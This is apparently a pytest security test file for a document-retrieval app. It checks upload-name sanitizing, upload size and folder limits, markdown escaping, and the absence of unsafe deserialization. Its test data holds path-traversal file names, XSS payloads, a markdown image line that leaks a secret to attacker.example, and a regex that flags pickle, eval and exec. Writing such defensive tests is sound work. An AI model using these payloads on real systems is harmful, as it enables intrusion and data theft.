"""Security basics: uploads stay in the uploads folder and under the size limit, document/model
text is never markup, no unsafe deserialization. The UI listening on 127.0.0.1 only:
tests/e2e/test_security.py."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from rag_app.knowledge import safe_upload_name
from rag_app.service import RagService
from rag_app.settings import Settings
from tests.support.embeddings import BagOfWordsEmbeddings
from tests.support.pdfs import COURSE_PAGES, make_pdf
from ui.widgets import escape_md


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\system32\\evil.pdf", "evil.pdf"),
        ("/abs/path/notes.PDF", "notes.PDF"),
        ("....pdf", "pdf.pdf"),  # harmless: no folder, no hidden file
        (".hidden.pdf", "hidden.pdf"),
        ("run.sh", "run.sh.pdf"),
        ("notas tema 2.md", "notas tema 2.md"),
        ("../slides.HTML", "slides.HTML"),
        ("a\x00b<script>.pdf", "a_b_script_.pdf"),
        ("", "upload.pdf"),
        ("x" * 400 + ".pdf", "x" * 150 + ".pdf"),
    ],
)
def test_upload_names_are_sanitized(given: str, expected: str) -> None:
    assert safe_upload_name(given) == expected


def test_uploads_stay_inside_the_data_dir_and_under_the_limit(settings: Settings) -> None:
    limited = settings.model_copy(
        update={"ui": settings.ui.model_copy(update={"max_upload_mb": 1})}
    )
    service = RagService(limited, embeddings=BagOfWordsEmbeddings())
    pdf = make_pdf(settings.data_dir.parent / "src" / "astronomy.pdf", COURSE_PAGES).read_bytes()
    outside = settings.data_dir.parent / "outside.pdf"
    report = service.ingest_uploads(
        [("../../outside.pdf", pdf), ("big.pdf", pdf + b"%" + b"x" * 1_000_001)]
    )
    assert [r.source for r in report.ingested] == ["outside.pdf"]
    assert report.failed == ["big.pdf: larger than 1 MB; split it, or raise RAG_UI__MAX_UPLOAD_MB"]
    assert not outside.exists()
    uploads = settings.data_dir / "uploads"
    assert sorted(p.name for p in uploads.iterdir()) == ["outside.pdf"]


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![leak](http://attacker.example/?q=secret)",
        "[click me](javascript:alert(1))",
        "**bold** _it_ `code` # heading",
    ],
)
def test_document_and_model_text_is_never_markup(hostile: str) -> None:
    shown = escape_md(hostile)
    assert not re.search(r"(?<!\\)[<>\[\]()*_`#!]", shown), shown
    assert shown.replace("\\", "") == hostile


def test_no_unsafe_deserialization_in_our_code() -> None:
    root = Path(__file__).parents[2]
    pattern = re.compile(
        r"\bimport pickle\b|\bpickle\.loads?\b|torch\.load\b|allow_pickle\s*=\s*True|"
        r"yaml\.load\(|\beval\(|\bexec\(|joblib\.load|marshal\.loads?"
    )
    offenders = [
        f"{path.relative_to(root)}:{n}"
        for folder in ("rag_app", "ingest", "vectorstore", "ui", "bench")
        for path in (root / folder).rglob("*.py")
        for n, line in enumerate(path.read_text().splitlines(), start=1)
        if pattern.search(line)
    ]
    assert offenders == []
